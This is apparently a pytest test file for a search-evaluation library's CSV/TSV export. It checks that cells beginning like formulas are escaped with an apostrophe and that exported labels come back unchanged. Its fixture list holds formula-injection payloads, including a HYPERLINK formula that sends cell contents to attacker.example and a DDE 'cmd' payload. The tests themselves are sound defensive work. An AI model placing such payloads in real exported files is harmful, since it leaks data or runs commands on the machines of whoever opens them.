"""A cell that would be a formula is a text, and findwell reads its own tables back unchanged."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

import findwell
from findwell.core.spreadsheets import OWN, is_own, to_csv, without_apostrophes

if TYPE_CHECKING:
    from pathlib import Path

    from tests.conftest import Findwell, Save

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
DANGEROUS = [FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1"]


def cells(text: str, separator: str = ",") -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row}


@pytest.mark.parametrize("value", [*DANGEROUS, "'=1"])
def test_a_formula_becomes_a_text(value: str) -> None:
    (text,) = cells(to_csv(pl.DataFrame({"doc": [value]}))) - {"doc"}
    assert text == f"'{value}"
    assert f"'{value}" in cells(to_csv(pl.DataFrame({value: [1]})))


@pytest.mark.parametrize(
    "value", ["-3", "+0.5", "-1e-5", "12%", "-.5", "d-1", "", "'quoted'", "a=b"]
)
def test_what_is_no_formula_stays(value: str) -> None:
    assert value in cells(to_csv(pl.DataFrame({"doc": [value], "number": [-0.5]})))
    assert "-0.5" in cells(to_csv(pl.DataFrame({"doc": [value], "number": [-0.5]})))


@given(st.lists(st.text(st.sampled_from("'=+-@\t\r\n1a ＝.e"), max_size=5), min_size=1))
def test_taking_the_apostrophes_away_is_exact(values: list[str]) -> None:
    table = pl.DataFrame({"doc": values})
    written = pl.DataFrame({"doc": [*csv_column(to_csv(table))]})
    assert without_apostrophes(written.lazy()).collect()["doc"].to_list() == values


def csv_column(text: str) -> list[str]:
    return [row[0] if row else "" for row in csv.reader(io.StringIO(text, newline=""))][1:]


@pytest.mark.parametrize(
    "command",
    [
        ["score", "--per-query", "--format", "csv"],
        ["score", "--per-query", "--format", "tsv"],
        ["score", "--slice", "topic", "--format", "csv"],
        ["curve", "--format", "csv"],
    ],
)
def test_no_command_writes_a_formula(command: list[str], cli: Findwell, save: Save) -> None:
    lines = [
        {"query": value, "question": value, "topic": value, "retrieved": ["a"], "gold": ["a"]}
        for value in DANGEROUS[:4]
    ]
    samples = save("=1+1.jsonl", "\n".join(map(json.dumps, lines)))
    done = cli(command[0], samples, "-m", "RR", *command[1:])
    assert done.code == 0, done.err
    separator = "\t" if "tsv" in command else ","
    assert not [cell for cell in cells(done.out, separator) if cell[:1] in tuple("=+@")]
    kept = cli("score", samples, "-m", "RR", "--per-query", "--format", "json")
    assert json.dumps(FORMULA)[1:-1] in kept.out  # for machines nothing is changed


@pytest.mark.parametrize("ending", ["csv", "tsv"])
def test_labels_come_back_as_they_were(ending: str, tmp_path: Path) -> None:
    docs = ["-id", "=id", "'=id", "plain"]
    retrieved = [{"doc": doc, "text": f"={doc}"} for doc in docs]
    records = [{"query": FORMULA, "question": FORMULA, "retrieved": retrieved}]
    for folder in ("one", "two"):
        findwell.labels.pool(
            [records], tmp_path / folder, depth=4, purpose="ordering", method="depth"
        )
    with findwell.labels.Labels.open(tmp_path / "one") as labels:
        for doc in docs:
            labels.set(FORMULA, doc, 1, annotator="@anna", note="+1 from me")
        labels.export(tmp_path / f"labels.{ending}")
        before = labels.frame().drop("time")
    text = (tmp_path / f"labels.{ending}").read_text("utf-8")
    separator = "\t" if ending == "tsv" else ","
    assert not [cell for cell in cells(text, separator) if cell[:1] in tuple("=+-@")]
    with findwell.labels.Labels.open(tmp_path / "two") as labels:
        labels.import_labels(tmp_path / f"labels.{ending}")
        assert labels.frame().drop("time").equals(before)
    gold = findwell.evaluate({FORMULA: docs}, tmp_path / f"labels.{ending}", measures=["recall@4"])
    assert gold["recall@4"] == 1.0


def test_only_tables_of_findwell_are_read_so(save: Save) -> None:
    gold = save("gold.csv", "query,doc\nq1,'=d\n")
    assert findwell.evaluate({"q1": ["'=d"]}, gold, measures=["RR"])["RR"] == 1.0
    assert not is_own(["query", "doc", "grade"])
    assert all(is_own([*own, "more"]) for own in OWN)
